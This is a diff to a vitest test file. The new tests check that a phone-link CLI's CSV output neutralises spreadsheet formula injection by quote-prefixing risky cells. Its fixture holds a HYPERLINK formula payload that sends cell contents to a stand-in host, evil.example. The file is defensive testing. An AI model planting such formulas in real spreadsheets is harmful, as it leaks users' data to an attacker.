@@ -5,6 +5,7 @@ import { stringify as stringifyCsv } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import { csvLine } from '../../src/commands/link-batch-chunk.js';
 import { type Chunk, splitChunks } from '../../src/commands/link-batch-split.js';
+import { neutralizeFormula } from '../../src/core/csv.js';
 import { expectError } from '../helpers/assert.js';
 import { run, spawnCli, tempDir } from '../helpers/cli.js';
 import { bitmapToImage, jsqrBytes, jsqrText, parseSvg, zbarText } from '../helpers/qr-decode.js';
@@ -829,7 +830,7 @@ describe('csvLine', () => {
           '',
         ),
       );
-      expect(`${csvLine(fields)}\n`).toBe(stringifyCsv([fields]));
+      expect(`${csvLine(fields, true)}\n`).toBe(stringifyCsv([fields]));
     }
   });
 });
@@ -975,5 +976,61 @@ describe('wabox link --batch: chunks and workers', () => {
         Array.from({ length: 300 }, (_, i) => i).filter((i) => i % 23 !== 4),
       );
     }
+  });
+});
+
+describe('wabox link --batch: spreadsheet formulas in CSV output', () => {
+  const INPUT = [
+    'phone,name,=cmd',
+    '+919876543210,"=HYPERLINK(""http://evil.example/?d=""&B3,""Click"")",@SUM(1)',
+    '=1+1,-2+3,"\tx"',
+    '+44 7911 123456,"\rcr",-1.5',
+    '',
+  ].join('\n');
+
+  it("prefixes cells that start with = + - @ tab or CR with ', leaves plain numbers as they are", async () => {
+    const r = await run(['link', '--batch', '-'], { stdin: INPUT });
+    expect(r.code).toBe(1);
+    const rows = parseCsv(r.stdout, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(['phone', 'name', "'=cmd", 'url', 'waId', 'error']);
+    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
+      ['+919876543210', `'=HYPERLINK("http://evil.example/?d="&B3,"Click")`, "'@SUM(1)"],
+      ["'=1+1", "'-2+3", "'\tx"],
+      ['+44 7911 123456', "'\rcr", '-1.5'],
+    ]);
+    expect(rows[2]![5]).toMatch(/^"=1\+1" is not a phone number/);
+  });
+
+  it('writes the cells as they are with --raw-csv, and JSONL output is never changed', async () => {
+    const raw = await run(['link', '--batch', '-', '--raw-csv'], { stdin: INPUT });
+    const rows = parseCsv(raw.stdout, { bom: true }) as string[][];
+    expect(rows[0]!.slice(0, 3)).toEqual(['phone', 'name', '=cmd']);
+    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
+      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
+      ['=1+1', '-2+3', '\tx'],
+      ['+44 7911 123456', '\rcr', '-1.5'],
+    ]);
+    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin: INPUT });
+    expect(jsonl(json.stdout).map((row) => [row.phone, row.name, row['=cmd']])).toEqual([
+      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
+      ['=1+1', '-2+3', '\tx'],
+      ['+44 7911 123456', '\rcr', '-1.5'],
+    ]);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['@x', "'@x"],
+    ['+', "'+"],
+    ['-', "'-"],
+    ['+1 (650) 253-0000', '+1 (650) 253-0000'],
+    ['+91-98765-43210', '+91-98765-43210'],
+    ['-1+1', "'-1+1"],
+    ['+1 cmd', "'+1 cmd"],
+    ['\t', "'\t"],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ])('neutralizeFormula(%j) is %j', (cell, expected) => {
+    expect(neutralizeFormula(cell)).toBe(expected);
   });
 });
